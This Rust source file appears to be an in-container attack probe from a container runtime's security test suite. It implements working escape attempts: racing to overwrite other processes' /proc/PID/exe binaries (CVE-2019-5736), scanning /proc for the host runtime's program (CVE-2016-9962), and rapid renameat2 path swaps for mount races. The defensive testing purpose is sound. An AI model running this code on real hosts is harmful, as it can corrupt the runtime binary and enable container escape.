//! What an attacker inside tries: writing to the runtime's binary, swapping paths, opening what should be out of reach.

use std::ffi::CString;
use std::fs::OpenOptions;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// How long a racing attacker goes on; the suites kill it sooner.
const RACE: Duration = Duration::from_secs(60);

/// Opens `/proc/PID/exe` of every process it sees for writing, over and over, and prints `written` on success
/// (CVE-2019-5736). Without a PID it looks at all of them.
pub fn write_exe(args: &[&str]) -> ExitCode {
    let until = Instant::now() + RACE;
    while Instant::now() < until {
        let pids: Vec<String> = match args.first() {
            Some(pid) => vec![(*pid).to_owned()],
            None => std::fs::read_dir("/proc")
                .into_iter()
                .flatten()
                .flatten()
                .map(|entry| entry.file_name().to_string_lossy().into_owned())
                .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
                .collect(),
        };
        for pid in pids {
            let exe = format!("/proc/{pid}/exe");
            // The probe's own binary lies in the rootfs and may be written: only others count.
            if std::fs::read_link(&exe).is_ok_and(|path| path.ends_with("probe") || path.ends_with("busybox")) {
                continue;
            }
            if let Ok(mut file) = OpenOptions::new().write(true).open(&exe) {
                use std::io::Write;
                let _ = file.write_all(b"#!/bin/owned\n");
                println!("written {pid}");
                return ExitCode::SUCCESS;
            }
        }
    }
    println!("never");
    ExitCode::FAILURE
}

/// Looks into every process it sees until one shows a program that is not the container's own, and prints that
/// (CVE-2016-9962): whoever sees the program of the runtime can open its descriptors, too. With a word only processes
/// count that have it in their command line.
pub fn peek(args: &[&str]) -> ExitCode {
    let until = Instant::now() + RACE;
    while Instant::now() < until {
        for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|byte| byte.is_ascii_digit()) {
                continue;
            }
            let Ok(program) = std::fs::read_link(entry.path().join("exe")) else { continue };
            let told = |word: &str| {
                let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
                String::from_utf8_lossy(&line).contains(word)
            };
            let own = program.ends_with("probe") || program.ends_with("busybox");
            if !own && args.first().is_none_or(|word| told(word)) {
                println!("{name} {}", program.display());
                return ExitCode::SUCCESS;
            }
        }
    }
    ExitCode::FAILURE
}

/// Exchanges the paths A and B (`renameat2` with `RENAME_EXCHANGE`) as fast as it can: the racer of the mount attacks.
pub fn swap(args: &[&str]) -> ExitCode {
    let [a, b] = args else {
        eprintln!("probe: swap A B");
        return ExitCode::from(2);
    };
    let (Ok(a), Ok(b)) = (CString::new(*a), CString::new(*b)) else { return ExitCode::from(2) };
    let until = Instant::now() + RACE;
    while Instant::now() < until {
        for _ in 0..1_000 {
            // SAFETY: both names are NUL-terminated and outlive the call.
            unsafe { libc::renameat2(libc::AT_FDCWD, a.as_ptr(), libc::AT_FDCWD, b.as_ptr(), libc::RENAME_EXCHANGE) };
        }
    }
    ExitCode::SUCCESS
}

/// Opens each path for reading and writing and prints `PATH ok` or `PATH errno N`.
pub fn open(args: &[&str]) -> ExitCode {
    for path in args {
        match OpenOptions::new().read(true).write(true).open(path) {
            Ok(_) => println!("{path} ok"),
            Err(error) => println!("{path} errno {}", error.raw_os_error().unwrap_or(-1)),
        }
    }
    ExitCode::SUCCESS
}
